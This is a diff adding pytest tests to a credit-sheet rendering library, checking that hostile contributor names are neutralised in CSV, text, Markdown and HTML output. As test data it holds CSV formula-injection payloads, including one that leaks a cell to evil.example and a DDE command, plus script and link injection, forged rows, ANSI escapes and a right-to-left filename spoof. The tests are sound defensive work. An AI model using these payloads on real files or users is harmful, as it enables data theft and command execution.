@@ -8,15 +8,17 @@ import os
 from datetime import UTC, datetime
 
 import pytest
+from markdown_it import MarkdownIt
 from pypdf import PdfReader
 
 from provenance.credit_formats import CSV_COLUMNS, render_csv, render_html, render_json, render_md, render_txt
 from provenance.credit_pdf import render_pdf
-from provenance.credits import CreditGap
+from provenance.credits import CreditGap, ModelUseFact, ProductionInfo, build_credit_sheet
 from provenance.fonts import FONT_VARIABLE, MissingFontError, find_japanese_font
+from provenance.plain_text import printable
 
 from .conftest import assert_golden
-from .test_credits import sample_sheet
+from .test_credits import fact, sample_sheet
 
 GAP = CreditGap(
     background="harbor/C013", stage_kind="revise", stage_id="0123abcd-0000-0000-0000-000000000000", role="BG_RETOUCH"
@@ -91,3 +93,123 @@ def test_pdf_without_a_font_says_how_to_get_one(monkeypatch: pytest.MonkeyPatch,
     monkeypatch.setenv(FONT_VARIABLE, str(tmp_path / "missing.ttf"))
     with pytest.raises(MissingFontError, match="is not a file"):
         render_pdf(sample_sheet())
+
+
+def hostile_sheet(  # type: ignore[no-untyped-def]
+    names: list[str],
+    *,
+    title: str = "Harbor Lights",
+    native_title: str = "港の灯り",
+    studio: str | None = "Harbor Studio",
+    model: str = "tiny",
+    license: str | None = None,
+):
+    """A sheet as an old or hand-edited database could give it: one BG_ARTIST credit per name."""
+    production = ProductionInfo(handle="harbor", title=title, native_title=native_title, studio=studio)
+    contributions = [fact("BG_ARTIST", f"p{index}", name, name) for index, name in enumerate(names)]
+    use = ModelUseFact(
+        name=model, version=None, fingerprint="f" * 64, test_model=False, license=license,
+        stage_kind="ai_generate", background_id=1,
+    )  # fmt: skip
+    return build_credit_sheet(production, "harbor", 1, contributions, [use])
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "=cmd|' /C calc'!A0",
+    "+81 3 1234 5678",
+    "-Kimu-",
+    "@SUM(A1:A9)",
+    "\tTab First",
+    "\rCarriage First",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text() -> None:
+    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_sheet(FORMULAS)))))
+    names = [row["name_en"] for row in rows if row["block"] == "credits"]
+    # Credits are ordered by name; the neutralised cell is the name behind a quote, hidden characters escaped.
+    assert sorted(names) == sorted("'" + printable(name) for name in FORMULAS)
+    assert all(name.startswith("'") for name in names)
+    assert [row["order"] for row in rows] == [str(n) for n in range(1, len(rows) + 1)]
+
+
+def test_csv_keeps_ordinary_cells_as_they_are() -> None:
+    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_sheet(["Tanaka Aiko", "O'Brien", "5 = 5"])))))
+    assert sorted(row["name_en"] for row in rows if row["block"] == "credits") == ["5 = 5", "O'Brien", "Tanaka Aiko"]
+
+
+def test_txt_gives_every_value_its_own_line_even_from_an_old_database() -> None:
+    forged = ["Eve\nBackground Art    Mallory", "Trudy\r\nArt Director    Oscar", "\x1b[2JWalter"]
+    text = render_txt(hostile_sheet(forged))
+    ordinary = render_txt(hostile_sheet(["Eve", "Trudy", "Walter"]))
+    assert len(text.splitlines()) == len(ordinary.splitlines())
+    assert "\x1b" not in text and "\r" not in text
+    assert not any(
+        line.startswith(("Background Art    Mallory", "Art Director    Oscar")) for line in text.splitlines()
+    )
+    assert "Eve\\nBackground Art    Mallory" in text
+
+
+MARKDOWN_HOSTILE = [
+    "*Bold* Name",
+    "_Under_ Score",
+    "[click](http://evil.example)",
+    "![pixel](http://evil.example/p.png)",
+    "<script>alert(1)</script>",
+    "<b>Big</b> Name",
+    "`code` Name",
+    "a | b",
+    "&#x202e;reversed",
+    "&amp; Co",
+    "~~Struck~~",
+    "back\\slash\\",
+    "# Heading",
+    "- Item",
+    "+ Item",
+    "1. Item",
+    "2) Item",
+    "> Quote",
+    "=== Setext",
+    "Eve\n| FAKE | ROW |",
+    "$x^2$",
+]
+
+
+def _inline_texts(source: str, after: str) -> list[tuple[list[str], str]]:
+    """(children's token types, their text) of every inline token that follows a token of type ``after``."""
+    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(source)
+    return [
+        ([child.type for child in token.children or []], "".join(child.content for child in token.children or []))
+        for previous, token in zip(tokens, tokens[1:], strict=False)
+        if previous.type == after and token.type == "inline"
+    ]
+
+
+def test_markdown_renders_every_value_as_exactly_its_text() -> None:
+    # Read back by a CommonMark parser with GFM tables: no link, emphasis, HTML, code, row or list appears.
+    text = render_md(hostile_sheet(MARKDOWN_HOSTILE))
+    cells = _inline_texts(text, "td_open")
+    assert len(cells) == 4 * len(MARKDOWN_HOSTILE)  # one row of four cells per name, no forged row
+    name_cells = [cells[index] for index in range(2, len(cells), 4)]
+    assert all(types == ["text"] for types, _ in name_cells)
+    assert sorted(content for _, content in name_cells) == sorted(printable(name) for name in MARKDOWN_HOSTILE)
+
+
+@pytest.mark.parametrize("value", ["Harbor #", "*Harbor*", "<i>Harbor</i>", "[Harbor](http://x)", "`Harbor`"])
+def test_markdown_title_and_disclosure_stay_literal(value: str) -> None:
+    sheet = hostile_sheet(["Tanaka Aiko"], title=value, native_title=value, studio=None, model=value, license=value)
+    text = render_md(sheet)
+    heading_types, heading = _inline_texts(text, "heading_open")[0]
+    assert heading_types == ["text"] and heading == value
+    paragraphs = _inline_texts(text, "paragraph_open")
+    assert paragraphs[0] == (["em_open", "text", "em_close"], value)  # the native title, in our italics
+    [(types, disclosure)] = [paragraph for paragraph in paragraphs if paragraph[1].startswith("AI disclosure:")]
+    assert types == ["text"]
+    assert f"{value} was used for" in disclosure and f"license: {value}" in disclosure
+
+
+def test_html_shows_hidden_characters_as_escapes() -> None:
+    page = render_html(hostile_sheet(["Mallory\u202egnp.exe", "Eve\x1b[2J"]))
+    assert "\u202e" not in page and "\x1b" not in page
+    assert "Mallory\\u202egnp.exe" in page and "Eve\\x1b[2J" in page
